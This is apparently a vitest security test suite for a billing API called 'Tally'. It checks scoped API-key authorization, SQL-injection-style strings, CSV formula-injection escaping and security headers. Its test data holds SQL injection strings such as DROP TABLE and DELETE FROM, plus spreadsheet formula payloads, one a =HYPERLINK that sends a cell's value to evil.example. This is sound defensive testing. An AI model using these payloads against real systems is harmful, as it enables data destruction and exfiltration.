// Security on both engines: every route × every kind of key × customer binding (expectations from the declared
// scopes and API.md), SQL-looking strings stored and returned verbatim, helmet's headers on every kind of answer,
// no stack traces, and CSV formula injection escaped.
import request from "supertest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Scope } from "../src/auth/types.js";
import { securityHeaders } from "../src/http/securityHeaders.js";
import { BACKENDS } from "./helpers/databases.js";
import { defineMeters } from "./helpers/events.js";
import { type HttpClient, httpClient, type RawResponse } from "./helpers/http.js";
import { ADMIN_KEY, admin, startTestTally, type TestTally } from "./helpers/tally.js";

type RouteInfo = { method: "get" | "put" | "post" | "delete"; path: string; scopes: Scope[] | "public" };

const A = "cust_a";
const B = "cust_b";
const enc = encodeURIComponent;
const DAY = 86_400_000;
const NOW = Date.now();
const day = (ms: number) => new Date(Math.floor(ms / DAY) * DAY).toISOString();
const month = new Date(NOW).toISOString().slice(0, 7);

interface Plausible {
  method?: string;
  path: string;
  body?: unknown;
}

/** The kinds of caller: which scopes they hold and the customer they are bound to. */
interface Caller {
  header: string | undefined;
  scopes: Scope[];
  bound: string | null;
}
const KINDS: Record<
  "none" | "malformed" | "unknown" | "revoked" | "admin" | "ingest" | "read" | "boundRead" | "boundIngest",
  Caller
> = {
  none: { header: undefined, scopes: [], bound: null },
  malformed: { header: "Basic YWxhZGRpbjpvcGVuc2VzYW1l", scopes: [], bound: null },
  unknown: { header: "Bearer tally_thisKeyWasNeverIssued000000000000000000", scopes: [], bound: null },
  revoked: { header: "", scopes: [], bound: null },
  admin: { header: `Bearer ${ADMIN_KEY}`, scopes: ["admin"], bound: null },
  ingest: { header: "", scopes: ["ingest"], bound: null },
  read: { header: "", scopes: ["read"], bound: null },
  boundRead: { header: "", scopes: ["read"], bound: A },
  boundIngest: { header: "", scopes: ["ingest"], bound: A },
};
type Kind = keyof typeof KINDS;
const UNAUTHENTICATED: Kind[] = ["none", "malformed", "unknown", "revoked"];

/** A minimal RFC 4180 parser (quoted cells, doubled quotes, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || ch === "\r") {
      if (ch === "\r" && text[i + 1] === "\n") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe.each(BACKENDS)("security on %s", (backend) => {
  let t: TestTally;
  let client: HttpClient;
  let routes: RouteInfo[];
  let n = 0;
  const api = () => request(t.tally.app);

  beforeAll(async () => {
    // The plausible webhook endpoint is a closed port on 127.0.0.1: private addresses allowed.
    t = await startTestTally(backend, { env: { TALLY_WEBHOOK_ALLOW_PRIVATE: "true" } });
    routes = t.tally.app.locals.routes as RouteInfo[];
    await defineMeters(t.tally, { api_calls: "sum", storage_gb: "max" });
    for (const c of [A, B]) expect((await api().put(`/v1/customers/${c}`).set(admin).send({})).status).toBe(201);
    expect((await api().put("/v1/plans/pro").set(admin).send({ name: "Pro", currency: "USD" })).status).toBe(201);
    const price = await api()
      .post("/v1/plans/pro/prices")
      .set(admin)
      .send({ meter: "api_calls", effective_from: day(NOW - 90 * DAY), model: "per_unit", unit_price: "0.01" });
    expect(price.status).toBe(201);
    const seeded = await api()
      .post("/v1/events")
      .set(admin)
      .send({
        events: [
          { id: `evt-${A}`, customer: A, meter: "api_calls" },
          { id: `evt-${B}`, customer: B, meter: "api_calls" },
        ],
      });
    expect(seeded.status).toBe(202);
    const make = async (scopes: Scope[], customer?: string) => {
      const res = await api().post("/v1/api-keys").set(admin).send({ scopes, customer });
      expect(res.status).toBe(201);
      return res.body as { id: string; key: string };
    };
    const revoked = await make(["admin"]);
    expect((await api().delete(`/v1/api-keys/${revoked.id}`).set(admin)).status).toBe(204);
    KINDS.revoked.header = `Bearer ${revoked.key}`;
    KINDS.ingest.header = `Bearer ${(await make(["ingest"])).key}`;
    KINDS.read.header = `Bearer ${(await make(["read"])).key}`;
    KINDS.boundRead.header = `Bearer ${(await make(["read"], A)).key}`;
    KINDS.boundIngest.header = `Bearer ${(await make(["ingest"], A)).key}`;
    client = httpClient(await t.tally.listen(0, "127.0.0.1"), 4);
  });
  afterAll(async () => {
    client?.close();
    await t?.close();
  });

  /**
   * A valid request per route, about customer `c`, that an admin key gets a 2xx for. Routes not listed here (added
   * later) still get the 401/403 half of the matrix from a generic request.
   */
  const plausible: Record<string, (c: string) => Promise<Plausible> | Plausible> = {
    "get /healthz": () => ({ path: "/healthz" }),
    "get /readyz": () => ({ path: "/readyz" }),
    "get /metrics": () => ({ path: "/metrics" }),
    "get /openapi.json": () => ({ path: "/openapi.json" }),
    "put /v1/meters/{key}": () => ({
      path: `/v1/meters/m_${++n}`,
      body: { name: "M", unit: "u", aggregation: "sum" },
    }),
    "get /v1/meters": () => ({ path: "/v1/meters" }),
    "put /v1/customers/{id}": (c) => ({ path: `/v1/customers/${enc(c)}`, body: { name: "Name" } }),
    "get /v1/customers/{id}": (c) => ({ path: `/v1/customers/${enc(c)}` }),
    "post /v1/api-keys": (c) => ({ path: "/v1/api-keys", body: { scopes: ["read"], customer: c } }),
    "delete /v1/api-keys/{id}": async () => {
      const res = await api()
        .post("/v1/api-keys")
        .set(admin)
        .send({ scopes: ["read"] });
      return { path: `/v1/api-keys/${res.body.id}` };
    },
    "post /v1/events": (c) => ({
      path: "/v1/events",
      body: { events: [{ id: `m-${++n}`, customer: c, meter: "api_calls" }] },
    }),
    "get /v1/events/{customer}/{id}": (c) => ({ path: `/v1/events/${enc(c)}/${enc(`evt-${c}`)}` }),
    "get /v1/usage": (c) => ({
      path: `/v1/usage?customer=${enc(c)}&meter=api_calls&granularity=day&from=${day(NOW - 7 * DAY)}&to=${day(NOW + DAY)}`,
    }),
    "get /v1/usage/export": (c) => ({
      path: `/v1/usage/export?customer=${enc(c)}&granularity=day&from=${day(NOW - 7 * DAY)}&to=${day(NOW + DAY)}`,
    }),
    "put /v1/plans/{key}": () => ({ path: `/v1/plans/p_${++n}`, body: { name: "P", currency: "EUR" } }),
    "get /v1/plans": () => ({ path: "/v1/plans" }),
    "get /v1/plans/{key}": () => ({ path: "/v1/plans/pro" }),
    "post /v1/plans/{key}/prices": () => ({
      path: "/v1/plans/pro/prices",
      body: {
        meter: "api_calls",
        effective_from: new Date(NOW - 80 * DAY + ++n * 1000).toISOString(),
        model: "per_unit",
        unit_price: "0.01",
      },
    }),
    "put /v1/customers/{id}/subscription": (c) => ({
      path: `/v1/customers/${enc(c)}/subscription`,
      body: { plan: "pro", start: day(NOW - 60 * DAY) },
    }),
    "get /v1/customers/{id}/summary": (c) => ({ path: `/v1/customers/${enc(c)}/summary` }),
    "get /v1/customers/{id}/invoice": (c) => ({ path: `/v1/customers/${enc(c)}/invoice?period=${month}` }),
    "get /v1/invoices": (c) => ({ path: `/v1/invoices?customer=${enc(c)}` }),
    "get /v1/invoices/{id}": async (c) => {
      const sub = await api()
        .put(`/v1/customers/${enc(c)}/subscription`)
        .set(admin)
        .send({ plan: "pro", start: day(NOW - 60 * DAY) });
      expect(sub.status).toBe(200);
      const list = await api().get("/v1/invoices").query({ customer: c }).set(admin);
      return { path: `/v1/invoices/${list.body.data[0].id}` };
    },
    "put /v1/customers/{id}/limits/{meter}": (c) => ({
      path: `/v1/customers/${enc(c)}/limits/api_calls`,
      body: { hard: "1000000", unit: "quantity" },
    }),
    "delete /v1/customers/{id}/limits/{meter}": async (c) => {
      await api()
        .put(`/v1/customers/${enc(c)}/limits/storage_gb`)
        .set(admin)
        .send({ soft: "5", unit: "quantity" });
      return { path: `/v1/customers/${enc(c)}/limits/storage_gb` };
    },
    "put /v1/plans/{key}/limits/{meter}": () => ({
      path: "/v1/plans/pro/limits/api_calls",
      body: { soft: "900000", unit: "quantity" },
    }),
    "delete /v1/plans/{key}/limits/{meter}": async () => {
      await api().put("/v1/plans/pro/limits/storage_gb").set(admin).send({ soft: "5", unit: "quantity" });
      return { path: "/v1/plans/pro/limits/storage_gb" };
    },
    "post /v1/webhook-endpoints": () => ({ path: "/v1/webhook-endpoints", body: { url: "http://127.0.0.1:9/hook" } }),
    "get /v1/alerts": (c) => ({ path: `/v1/alerts?customer=${enc(c)}` }),
    "get /v1/entitlements/{customer}/{meter}": (c) => ({ path: `/v1/entitlements/${enc(c)}/api_calls` }),
    "post /v1/jobs/{name}/run": () => ({ path: "/v1/jobs/evaluate-limits/run" }),
    "get /v1/stripe/reconciliation": () => ({ path: `/v1/stripe/reconciliation?period=${month}` }),
  };

  /** Does the request name a customer (path or query)? A bound key may only ask about its own. */
  const namesCustomer = (r: RouteInfo) => /\{(customer|id)\}/.test(r.path) && !r.path.startsWith("/v1/api-keys");
  const aboutCustomer = (r: RouteInfo) =>
    namesCustomer(r) || ["/v1/usage", "/v1/usage/export", "/v1/alerts", "/v1/events", "/v1/invoices"].includes(r.path);

  type Expect = { status: number | "2xx" | "authorized"; code?: string };
  /** What API.md promises for this caller, route and customer, derived from the route's declared scopes. */
  function expected(r: RouteInfo, kind: Kind, customer: string, known: boolean): Expect {
    if (r.scopes === "public") return { status: "2xx" };
    if (UNAUTHENTICATED.includes(kind)) return { status: 401, code: "unauthorized" };
    const { scopes, bound } = KINDS[kind];
    const allowed = scopes.includes("admin") || r.scopes.some((s) => scopes.includes(s));
    if (!allowed) return { status: 403, code: "insufficient_scope" };
    if (bound && aboutCustomer(r) && customer !== bound) {
      // Ingest names the customer in the events: refused, not hidden (README "Ingesting events").
      return r.method === "post" && r.path === "/v1/events"
        ? { status: 403, code: "customer_not_allowed" }
        : { status: 404, code: "not_found" };
    }
    return { status: known ? "2xx" : "authorized" };
  }

  function check(res: RawResponse, want: Expect, where: string) {
    if (want.status === "2xx") expect(res.status, `${where}: ${res.text.slice(0, 300)}`).toBeLessThan(300);
    else if (want.status === "authorized") expect([401, 403], where).not.toContain(res.status);
    else expect(res.status, `${where}: ${res.text.slice(0, 300)}`).toBe(want.status);
    expect(res.status, where).toBeGreaterThanOrEqual(200);
    expect(res.status, where).toBeLessThan(500);
    if (res.status >= 400) {
      expect(res.headers["content-type"], where).toMatch(/^application\/problem\+json/);
      const body = JSON.parse(res.text);
      expect(body, where).toMatchObject({ status: res.status, type: expect.any(String), title: expect.any(String) });
      if (want.code) expect(body.code, where).toBe(want.code);
    }
    if (res.status === 401) expect(res.headers["www-authenticate"], where).toMatch(/^Bearer/);
  }

  it("when every route is called by every kind of key about customer A and customer B, then 401/403/404 follow the declared scopes and bindings", async () => {
    expect(routes.length).toBeGreaterThan(25);
    let calls = 0;
    for (const r of routes) {
      const factory = plausible[`${r.method} ${r.path}`];
      const targets = aboutCustomer(r) ? [A, B] : [A];
      for (const kind of Object.keys(KINDS) as Kind[]) {
        for (const customer of targets) {
          const req: Plausible = factory ? await factory(customer) : { path: r.path.replace(/\{\w+\}/g, "x") };
          const header = KINDS[kind].header;
          const send = () =>
            client.send({
              method: r.method.toUpperCase(),
              path: req.path,
              headers: {
                ...(header !== undefined ? { Authorization: header } : {}),
                ...(req.body !== undefined ? { "Content-Type": "application/json" } : {}),
              },
              body: req.body === undefined ? undefined : JSON.stringify(req.body),
            });
          const want = expected(r, kind, customer, factory !== undefined);
          const where = `${r.method.toUpperCase()} ${req.path} as ${kind}`;
          check(await send(), want, where);
          calls++;
          // The entitlement answer may come from the fast path in front of Express once key and decision are warm.
          if (r.path.startsWith("/v1/entitlements/")) check(await send(), want, `${where} (again)`);
        }
      }
    }
    expect(calls).toBeGreaterThan(300);
  });

  it("when a bound key asks about a customer that does not exist, then the answer is the same 404 as for one that does", async () => {
    for (const c of [B, "no-such-customer"]) {
      const res = await client.send({
        method: "GET",
        path: `/v1/customers/${enc(c)}/summary`,
        headers: { Authorization: KINDS.boundRead.header as string },
      });
      expect(res.status).toBe(404);
      expect(JSON.parse(res.text).detail).toBe(`no customer ${c}`);
    }
  });

  describe("SQL-looking strings", () => {
    const SQL = [
      "'; DROP TABLE customers; --",
      '" OR 1=1 --',
      "$1",
      "$$; DELETE FROM usage_events; $$",
      "back\\slash \\\\ \\N \\.",
      "100% _wild_ card%",
      "Ünïcødé 客户 🚀",
      "E'\\x41' || chr(65)",
    ];
    // Event ids and property values may also hold what the COPY text format treats specially.
    const COPY_SPECIAL = ["tab\there", "new\nline", "cr\rhere", "\\.", "\\N"];

    it("when they are used in every text field, then they are stored and returned verbatim and the tables still exist", async () => {
      const tables = async () =>
        (
          await t.tally.ctx.db.query<{ name: string }>(
            "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public'",
          )
        ).rows.map((r) => r.name);
      const tablesBefore = await tables();
      expect(tablesBefore).toEqual(
        expect.arrayContaining(["customers", "usage_events", "meters", "api_keys", "plans"]),
      );
      const meter = await api()
        .put("/v1/meters/sql_meter")
        .set(admin)
        .send({ name: SQL[0], unit: SQL[1], aggregation: "sum", stripe_event_name: SQL[2] });
      expect(meter.status).toBe(201);
      expect(meter.body).toMatchObject({ name: SQL[0], unit: SQL[1], stripe_event_name: SQL[2] });
      const listed = (await api().get("/v1/meters").set(admin)).body.data.find(
        (m: { key: string }) => m.key === "sql_meter",
      );
      expect(listed).toMatchObject({ name: SQL[0], unit: SQL[1], stripe_event_name: SQL[2] });

      const plan = await api().put("/v1/plans/sql_plan").set(admin).send({ name: SQL[3], currency: "USD" });
      expect(plan.status).toBe(201);
      expect((await api().get("/v1/plans/sql_plan").set(admin)).body.name).toBe(SQL[3]);

      const hook = `http://127.0.0.1:9/hook?q=${enc(SQL[0] as string)}&x=$1`;
      const endpoint = await api().post("/v1/webhook-endpoints").set(admin).send({ url: hook });
      expect(endpoint.status).toBe(201);
      expect(endpoint.body.url).toBe(hook);

      for (const [i, c] of SQL.entries()) {
        const other = SQL[(i + 1) % SQL.length] as string;
        const put = await api()
          .put(`/v1/customers/${enc(c)}`)
          .set(admin)
          .send({ name: other, email: `o'brien+${i}@example.com`, stripe_customer_id: c });
        expect(put.status, c).toBe(201);
        const got = await api()
          .get(`/v1/customers/${enc(c)}`)
          .set(admin);
        expect(got.body, c).toMatchObject({
          id: c,
          name: other,
          email: `o'brien+${i}@example.com`,
          stripe_customer_id: c,
        });

        const ids = [...SQL, ...COPY_SPECIAL].map((s) => `${s}#${i}`);
        const properties = Object.fromEntries([...SQL, ...COPY_SPECIAL].map((s, j) => [`${s.slice(0, 40)}${j}`, s]));
        const events = ids.map((id) => ({ id, customer: c, meter: "sql_meter", value: "2", properties }));
        const ingested = await api().post("/v1/events").set(admin).send({ events });
        expect(ingested.status, c).toBe(202);
        expect(ingested.body).toEqual({ accepted: ids.length, duplicates: 0 });
        for (const id of ids) {
          const receipt = await api()
            .get(`/v1/events/${enc(c)}/${enc(id)}`)
            .set(admin);
          expect(receipt.status, `${c} / ${id}`).toBe(200);
          expect(receipt.body).toMatchObject({ id, customer: c, meter: "sql_meter", value: "2", properties });
        }

        const range = `from=${day(NOW - DAY)}&to=${day(NOW + DAY)}`;
        const usage = await api()
          .get(`/v1/usage?customer=${enc(c)}&meter=sql_meter&granularity=day&${range}`)
          .set(admin);
        expect(usage.status, c).toBe(200);
        expect(usage.body.customer).toBe(c);
        expect(usage.body.data.reduce((s: number, p: { count: number }) => s + p.count, 0)).toBe(ids.length);
        const csv = await api()
          .get(`/v1/usage/export?customer=${enc(c)}&granularity=day&${range}`)
          .set(admin);
        expect(csv.status, c).toBe(200);
        const rows = parseCsv(csv.text).slice(1);
        expect(rows.length, c).toBeGreaterThan(0);
        // Verbatim, but for the quote before a formula character after a , or ; (src/rollups/export.ts safeCell).
        for (const row of rows) expect(row[2], c).toBe(c.replace(/(^|[,;])([\s"]*)([-=+@\t\r])/g, "$1$2'$3"));
        expect(rows.find((row) => row[3] === "sql_meter")?.[4]).toBe(String(2 * ids.length));
        const summary = await api()
          .get(`/v1/customers/${enc(c)}/summary`)
          .set(admin);
        expect(summary.status, c).toBe(200);
        expect(summary.body.customer).toBe(c);
        const invoice = await api()
          .get(`/v1/customers/${enc(c)}/invoice?period=${month}`)
          .set(admin);
        expect(invoice.body.customer).toBe(c);
        expect(
          (
            await api()
              .get(`/v1/alerts?customer=${enc(c)}`)
              .set(admin)
          ).status,
        ).toBe(200);
        expect(
          (
            await api()
              .get(`/v1/entitlements/${enc(c)}/sql_meter`)
              .set(admin)
          ).status,
        ).toBe(200);

        const bound = await api()
          .post("/v1/api-keys")
          .set(admin)
          .send({ scopes: ["read"], customer: c });
        expect(bound.body.customer).toBe(c);
        const own = await api()
          .get(`/v1/customers/${enc(c)}/summary`)
          .set({ Authorization: `Bearer ${bound.body.key}` });
        expect(own.status, c).toBe(200);
        const foreign = await api()
          .get(`/v1/customers/${A}/summary`)
          .set({ Authorization: `Bearer ${bound.body.key}` });
        expect(foreign.status, c).toBe(404);
      }

      // Tables may be added (partitions, chunks) but none may be gone.
      expect(await tables()).toEqual(expect.arrayContaining(tablesBefore));
      for (const table of ["customers", "usage_events", "meters", "api_keys", "plans"]) {
        const { rows } = await t.tally.ctx.db.query<{ n: string }>(`SELECT count(*) AS n FROM ${table}`);
        expect(Number(rows[0]?.n), table).toBeGreaterThan(0);
      }
      expect((await api().get(`/v1/events/${A}/evt-${A}`).set(admin)).status).toBe(200);
    });
  });

  describe("CSV export", () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=1"];

    it("when customer ids begin with =, +, - or @, then the exported cells are prefixed with ' and numbers are left alone", async () => {
      const events = FORMULAS.flatMap((c, i) => [
        { id: `f-${i}`, customer: c, meter: "api_calls", value: "5" },
        { id: `g-${i}`, customer: c, meter: "api_calls", value: "-8" },
      ]);
      expect((await api().post("/v1/events").set(admin).send({ events })).status).toBe(202);
      const res = await api()
        .get(`/v1/usage/export?granularity=month&from=${day(NOW - 40 * DAY)}&to=${day(NOW + 40 * DAY)}`)
        .set(admin);
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toMatch(/^text\/csv/);
      const [header, ...rows] = parseCsv(res.text);
      expect(header).toEqual(["start", "end", "customer", "meter", "value", "count"]);
      for (const c of FORMULAS) {
        const row = rows.find((r) => r[2] === `'${c}`);
        expect(row, c).toBeDefined();
        expect(row?.[4], c).toBe("-3"); // a negative total stays a number
      }
      for (const row of rows) {
        for (const cell of row.slice(2, 4)) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    it("when a meter key would begin with =, +, - or @, then it is refused at the door", async () => {
      for (const key of ["=cmd", "+x", "-x", "@x"]) {
        const res = await api()
          .put(`/v1/meters/${enc(key)}`)
          .set(admin)
          .send({ name: "x", unit: "u", aggregation: "sum" });
        expect(res.status, key).toBe(400);
      }
    });
  });

  describe("headers and bodies", () => {
    const helmetHeaders = securityHeaders();

    function hasSecurityHeaders(res: RawResponse, where: string) {
      expect(helmetHeaders.length).toBeGreaterThan(8);
      for (const [name, value] of helmetHeaders)
        expect(res.headers[name.toLowerCase()], `${where}: ${name}`).toBe(value);
      expect(res.headers["x-content-type-options"], where).toBe("nosniff");
      expect(res.headers["content-security-policy"], where).toBeDefined();
      expect(res.headers["x-powered-by"], where).toBeUndefined();
      expect(res.text, where).not.toMatch(/\n\s+at |node_modules|\/src\/\S+\.ts|\.js:\d+/);
    }

    it("when any kind of answer is given (JSON, CSV, 201, 202, 204, every 4xx, the fast path, 503), then helmet's headers are on it and no stack trace", async () => {
      const auth = { Authorization: `Bearer ${ADMIN_KEY}` };
      const json = { ...auth, "Content-Type": "application/json" };
      const range = `from=${day(NOW - DAY)}&to=${day(NOW + DAY)}`;
      const cases: [string, Parameters<HttpClient["send"]>[0], number][] = [
        ["public", { method: "GET", path: "/healthz" }, 200],
        ["openapi", { method: "GET", path: "/openapi.json" }, 200],
        ["json", { method: "GET", path: "/v1/meters", headers: auth }, 200],
        ["csv", { method: "GET", path: `/v1/usage/export?granularity=day&${range}`, headers: auth }, 200],
        ["201", { method: "PUT", path: "/v1/customers/hdr", headers: json, body: JSON.stringify({ name: "h" }) }, 201],
        [
          "202",
          {
            method: "POST",
            path: "/v1/events",
            headers: json,
            body: JSON.stringify({ events: [{ id: "hdr-1", customer: "hdr", meter: "api_calls" }] }),
          },
          202,
        ],
        ["204", { method: "DELETE", path: "/v1/api-keys/%s", headers: auth }, 204],
        ["400", { method: "GET", path: "/v1/usage?customer=x", headers: auth }, 400],
        ["400 path", { method: "GET", path: "/v1/customers/%E0%A4%A", headers: auth }, 400],
        ["401", { method: "GET", path: "/v1/meters" }, 401],
        ["403", { method: "GET", path: "/v1/meters", headers: { Authorization: KINDS.read.header as string } }, 403],
        ["404", { method: "GET", path: "/v1/customers/nobody", headers: auth }, 404],
        ["404 route", { method: "GET", path: "/nowhere", headers: auth }, 404],
        [
          "413",
          {
            method: "PUT",
            path: "/v1/customers/big",
            headers: json,
            body: JSON.stringify({ name: "x".repeat(2 << 20) }),
          },
          413,
        ],
        [
          "415",
          { method: "POST", path: "/v1/events", headers: { ...auth, "Content-Type": "text/plain" }, body: "x" },
          415,
        ],
        [
          "422",
          {
            method: "POST",
            path: "/v1/events",
            headers: json,
            body: JSON.stringify({ events: [{ id: "u", customer: "hdr", meter: "nope" }] }),
          },
          422,
        ],
        ["431", { method: "GET", path: `/healthz?${"q".repeat(20_000)}` }, 431],
        ["entitlement", { method: "GET", path: `/v1/entitlements/${A}/api_calls`, headers: auth }, 200],
        ["entitlement (fast path)", { method: "GET", path: `/v1/entitlements/${A}/api_calls`, headers: auth }, 200],
      ];
      const key = await api()
        .post("/v1/api-keys")
        .set(admin)
        .send({ scopes: ["read"] });
      const fastPathServed = async () =>
        Number(
          /tally_entitlement_fast_path_total (\d+)/.exec(
            (await client.send({ method: "GET", path: "/metrics" })).text,
          )?.[1],
        );
      const servedBefore = await fastPathServed();
      for (const [name, req, status] of cases) {
        const res = await client.send({ ...req, path: req.path.replace("%s", key.body.id) });
        expect(res.status, `${name}: ${res.text.slice(0, 200)}`).toBe(status);
        hasSecurityHeaders(res, name);
      }
      expect(await fastPathServed()).toBeGreaterThan(servedBefore);
      // Shutting down: the 503 comes from a middleware of its own, after helmet.
      t.tally.ctx.state.draining = true;
      try {
        const res = await client.send({ method: "GET", path: "/v1/meters", headers: auth });
        expect(res.status).toBe(503);
        hasSecurityHeaders(res, "503");
        expect(res.headers["retry-after"]).toBeDefined();
      } finally {
        t.tally.ctx.state.draining = false;
      }
    });
  });
});
